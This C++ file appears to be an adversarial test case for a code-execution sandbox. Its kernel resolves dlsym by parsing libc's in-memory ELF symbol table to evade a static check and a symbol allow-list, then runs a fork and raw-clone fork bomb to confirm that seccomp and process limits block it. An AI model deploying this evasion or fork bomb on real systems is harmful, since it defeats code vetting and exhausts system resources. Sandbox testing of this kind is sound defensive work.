/* kernelcrew
entry: tiny_sss
flags: [-O2]
*/
// ATTACK: a fork bomb that evades the static check and the symbol allow-list: `dlsym`
// is found in the C library's dynamic symbol table from the address of memcpy, and
// `fork` and `syscall` through it. Every process forks again, forever, with libc's fork
// and with a raw clone (a new process: no CLONE_THREAD).
// Defense: the worker's seccomp guard, put on before the kernel is loaded, refuses fork,
// vfork and clone without CLONE_THREAD with EPERM (clone3, whose flags a filter cannot
// read, gets ENOSYS under the stock confinement, and libc falls back to clone); behind
// it the pids cap, the timeout and the PID namespace. When both calls are refused the
// kernel writes what fork returned (minus errno: -1 is EPERM) in out[0] and what the raw
// clone returned in out[1], so the verdict shows the calls were made and failed.
#include <cstdint>
#include <cstring>

// -- a function of any loaded library, found without importing it ---------------------
// The address of an imported, allowed function (memcpy) lies inside the C library: walk
// back page by page to its ELF header, read its dynamic symbol table, find `dlsym` there,
// then ask dlsym for anything. Names are compared by hand (strcmp is not imported).
struct KcSym { uint32_t name; unsigned char info, other; uint16_t shndx; uint64_t value, size; };
static bool kc_same(const char* a, const char* b) {
    while (*a && *a == *b) { ++a; ++b; }
    return *a == *b;
}
static void* kc_libc_symbol(const char* want) {
    uintptr_t p = reinterpret_cast<uintptr_t>(reinterpret_cast<void*>(&memcpy)) & ~uintptr_t(0xfff);
    while (memcmp(reinterpret_cast<void*>(p), "\x7f" "ELF", 4) != 0) p -= 0x1000;
    const unsigned char* base = reinterpret_cast<const unsigned char*>(p);
    uint64_t phoff; uint16_t phentsize, phnum;
    memcpy(&phoff, base + 32, 8); memcpy(&phentsize, base + 54, 2); memcpy(&phnum, base + 56, 2);
    uintptr_t dyn = 0;
    for (int i = 0; i < phnum; ++i) {
        const unsigned char* ph = base + phoff + i * phentsize;
        uint32_t type; uint64_t vaddr;
        memcpy(&type, ph, 4); memcpy(&vaddr, ph + 16, 8);
        if (type == 2) dyn = p + vaddr;  // PT_DYNAMIC
    }
    if (!dyn) return nullptr;
    uintptr_t strtab = 0, symtab = 0;
    for (const int64_t* d = reinterpret_cast<const int64_t*>(dyn); d[0]; d += 2) {
        if (d[0] == 5) strtab = d[1];  // DT_STRTAB
        if (d[0] == 6) symtab = d[1];  // DT_SYMTAB
    }
    if (strtab < p) strtab += p;
    if (symtab < p) symtab += p;
    for (const KcSym* s = reinterpret_cast<const KcSym*>(symtab);
         reinterpret_cast<uintptr_t>(s) < strtab; ++s) {
        if (s->value && kc_same(reinterpret_cast<const char*>(strtab + s->name), want))
            return reinterpret_cast<void*>(p + s->value);
    }
    return nullptr;
}
typedef void* (*KcDlsym)(void*, const char*);
static void* kc_find(const char* name) {  // any symbol of the process (RTLD_DEFAULT)
    static KcDlsym dl = reinterpret_cast<KcDlsym>(kc_libc_symbol("dlsym"));
    return dl ? dl(nullptr, name) : nullptr;
}
// -------------------------------------------------------------------------------------
typedef int (*Fork)();
typedef long (*Sys)(long, ...);
typedef int* (*Errno)();

#if defined(__x86_64__)
static const long NR_CLONE = 56;
#else
static const long NR_CLONE = 220;
#endif

extern "C" void tiny_sss(const float* x, float* out, float a, float b, int64_t rows,
                         int64_t cols) {
    Fork kc_fork = reinterpret_cast<Fork>(kc_find("fork"));
    Sys kc_sys = reinterpret_cast<Sys>(kc_find("syscall"));
    Errno kc_errno = reinterpret_cast<Errno>(kc_find("__errno_location"));
    long by_fork = -1000, by_clone = -1000;  // -1000: not resolved
    for (;;) {
        long f = kc_fork ? kc_fork() : -1;
        by_fork = f < 0 ? -*kc_errno() : f;
        long c = kc_sys ? kc_sys(NR_CLONE, 17L /* SIGCHLD */, 0L, 0L, 0L, 0L) : -1;
        by_clone = c < 0 ? -*kc_errno() : c;
        if (f < 0 && c < 0) break;  // neither made a process: nothing left to multiply
    }
    for (int64_t i = 0; i < rows; ++i) {
        float acc = 0.0f;
        for (int64_t j = 0; j < cols; ++j) acc += a * x[i * cols + j] + b;
        out[i] = acc;
    }
    out[0] = (float)by_fork;
    if (rows > 1) out[1] = (float)by_clone;
}
